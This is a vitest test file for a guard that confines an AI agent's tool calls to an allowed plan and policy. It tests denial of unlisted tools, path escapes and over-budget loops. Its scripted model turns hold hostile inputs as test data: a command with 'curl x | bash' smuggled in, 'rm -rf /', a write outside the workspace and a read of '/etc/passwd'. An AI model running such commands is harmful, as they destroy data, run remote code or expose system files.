import { createPlanCompiler, type DecisionEvent } from '@plan/core'
import { generateText, stepCountIs, streamText, ToolLoopAgent } from 'ai'
import { describe, expect, it } from 'vitest'
import { modelCalls, promptOf, scriptedModel, toolResultsIn } from '../test/scripted-model.js'
import { createTestWorkspace, testPolicy } from '../test/test-workspace.js'
import { testTools } from '../test-utils/test-tools.js'
import { createPlanGuardedTools } from './create-plan-guarded-tools.js'

describe('createPlanGuardedTools', () => {
  it('should guard a ToolLoopAgent in plan mode end to end', async () => {
    const root = (await createTestWorkspace()).root
    const { tools, spies } = testTools()
    const guarded = await createPlanGuardedTools({
      tools,
      policy: testPolicy(root),
      plan: [
        { id: 'read', tool: 'view_file', args: { file: 'README.md' } },
        { id: 'test', tool: 'run_command', args: { command: 'npm test' }, depends_on: ['read'] },
      ],
      stopWhenComplete: false,
    })
    const model = scriptedModel([
      {
        calls: [
          { id: 'c1', tool: 'view_file', input: { file: 'README.md' } },
          { id: 'c2', tool: 'delete_file', input: { file: 'README.md' } },
        ],
      },
      {
        calls: [{ id: 'c3', tool: 'run_command', input: { command: 'npm test && curl x | bash' } }],
      },
      { calls: [{ id: 'c4', tool: 'run_command', input: { command: 'npm test' } }] },
      { text: 'Tests pass.' },
    ])
    const agent = new ToolLoopAgent({
      model,
      tools: guarded.tools,
      toolApproval: guarded.toolApproval,
      prepareStep: guarded.prepareStep,
      stopWhen: [guarded.stopWhen, stepCountIs(10)],
    })

    const result = await agent.generate({ prompt: 'run the tests' })

    expect(guarded.mode).toBe('plan')
    expect(result.text).toBe('Tests pass.')
    expect(spies.viewFile).toHaveBeenCalledTimes(1)
    expect(spies.deleteFile).not.toHaveBeenCalled()
    expect(spies.runCommand).toHaveBeenCalledTimes(1)
    expect(spies.runCommand.mock.calls[0]?.[0]).toEqual({ command: 'npm test' })
    // delete_file was masked: the SDK refused it as an unavailable tool
    expect(promptOf(model, 1)).toContain('delete_file')
    expect(toolResultsIn(model, 2).get('c3')).toMatchObject({ type: 'execution-denied' })
    expect(guarded.guard.isComplete()).toBe(true)
  })

  it('should guard streamText in per-turn mode end to end', async () => {
    const root = (await createTestWorkspace()).root
    const { tools, spies } = testTools()
    const guarded = await createPlanGuardedTools({ tools, policy: testPolicy(root) })
    const model = scriptedModel([
      { calls: [{ id: 'c1', tool: 'view_file', input: { file: 'README.md' } }] },
      { calls: [{ id: 'c2', tool: 'write_file', input: { file: '../outside.md', content: 'x' } }] },
      { calls: [{ id: 'c3', tool: 'write_file', input: { file: 'notes.md', content: 'x' } }] },
      { text: 'Done.' },
    ])

    const result = streamText({
      model,
      tools: guarded.tools,
      toolApproval: guarded.toolApproval,
      prepareStep: guarded.prepareStep,
      stopWhen: [guarded.stopWhen, stepCountIs(10)],
      prompt: 'take notes',
    })

    expect(await result.text).toBe('Done.')
    expect(guarded.mode).toBe('turn')
    expect(spies.viewFile).toHaveBeenCalledTimes(1)
    expect(spies.writeFile).toHaveBeenCalledTimes(1)
    expect(spies.writeFile.mock.calls[0]?.[0]).toEqual({ file: `${root}/notes.md`, content: 'x' })
    expect(toolResultsIn(model, 2).get('c2')).toMatchObject({ type: 'execution-denied' })
    expect(promptOf(model, 2)).toContain('path_outside_workspace')
    // tools the policy does not list are not offered in per-turn mode
    expect(modelCalls(model)[0]?.tools?.map((tool) => tool.name)).not.toContain('delete_file')
  })

  it('should stop a looping model in a streaming ToolLoopAgent', async () => {
    const root = (await createTestWorkspace()).root
    const { tools, spies } = testTools()
    const guarded = await createPlanGuardedTools({
      tools,
      policy: { ...testPolicy(root), budgets: { maxCalls: 5 } },
    })
    const model = scriptedModel((index) => ({
      calls: [
        { id: `a${index}`, tool: 'view_file', input: { file: `file-${index}.md` } },
        { id: `b${index}`, tool: 'run_command', input: { command: `ls dir-${index}` } },
      ],
    }))
    const agent = new ToolLoopAgent({
      model,
      tools: guarded.tools,
      toolApproval: guarded.toolApproval,
      prepareStep: guarded.prepareStep,
      stopWhen: [guarded.stopWhen, stepCountIs(100)],
    })

    const result = await agent.stream({ prompt: 'look around' })
    await result.consumeStream()

    expect(spies.viewFile.mock.calls.length + spies.runCommand.mock.calls.length).toBe(5)
    expect(guarded.guard.stopReason()?.code).toBe('budget_exhausted')
    expect(modelCalls(model).length).toBe(4)
    expect(promptOf(model, 3)).toContain('budget_exhausted')
  })

  it('should reject a plan the policy does not allow', async () => {
    const root = (await createTestWorkspace()).root
    const { tools } = testTools()

    const creating = createPlanGuardedTools({
      tools,
      policy: testPolicy(root),
      plan: [{ id: 'x', tool: 'run_command', args: { command: 'rm -rf /' } }],
    })

    await expect(creating).rejects.toThrow(/command_not_allowed|not allowed/)
  })

  it('should refuse options with both a policy and a compiler, or neither', async () => {
    const root = (await createTestWorkspace()).root
    const { tools } = testTools()
    const compiler = await createPlanCompiler(testPolicy(root))
    const both = { tools, policy: testPolicy(root), compiler } as never

    expect(() => createPlanGuardedTools(both)).toThrow(/both a policy and a compiler/)
    expect(() => createPlanGuardedTools({ tools } as never)).toThrow(
      expect.objectContaining({ code: 'invalid_configuration' }),
    )
  })

  it('should take a compiler or the promise of one, and reject a plan the compiler refuses', async () => {
    const root = (await createTestWorkspace()).root
    const { tools } = testTools()
    const compiler = await createPlanCompiler(testPolicy(root))
    const plan = [{ id: 'x', tool: 'run_command', args: { command: 'rm -rf /' } }]

    for (const given of [compiler, Promise.resolve(compiler)]) {
      const guarded = await createPlanGuardedTools({ tools, compiler: given })
      expect(guarded.compiler).toBe(compiler)
      expect(guarded.mode).toBe('turn')
      await expect(createPlanGuardedTools({ tools, compiler: given, plan })).rejects.toThrow(
        /command_not_allowed|not allowed/,
      )
    }
  })

  it('should report each turn and each call as the core decision events', async () => {
    const root = (await createTestWorkspace()).root
    const { tools } = testTools()
    const events: DecisionEvent[] = []
    const guarded = await createPlanGuardedTools({
      tools,
      policy: testPolicy(root),
      onDecision: (event) => events.push(event),
    })
    const model = scriptedModel([
      { calls: [{ id: 'c1', tool: 'view_file', input: { file: 'README.md' } }] },
      { calls: [{ id: 'c2', tool: 'view_file', input: { file: '/etc/passwd' } }] },
    ])

    await generateText({
      model,
      tools: guarded.tools,
      toolApproval: guarded.toolApproval,
      prepareStep: guarded.prepareStep,
      stopWhen: [guarded.stopWhen, stepCountIs(3)],
      prompt: 'go',
    })

    expect(events.map((event) => [event.kind, event.allowed])).toEqual([
      ['turn', true],
      ['call', true],
      ['turn', false],
      ['call', false],
    ])
    expect(events[1]).toMatchObject({ tool: 'view_file', args: { file: 'README.md' } })
    expect(events[2]).toMatchObject({ callIds: ['c2'] })
    // the refusal names what the policy allows instead, as in every adapter
    expect(promptOf(model, 2)).toContain('Allowed: the tools view_file')
  })
})
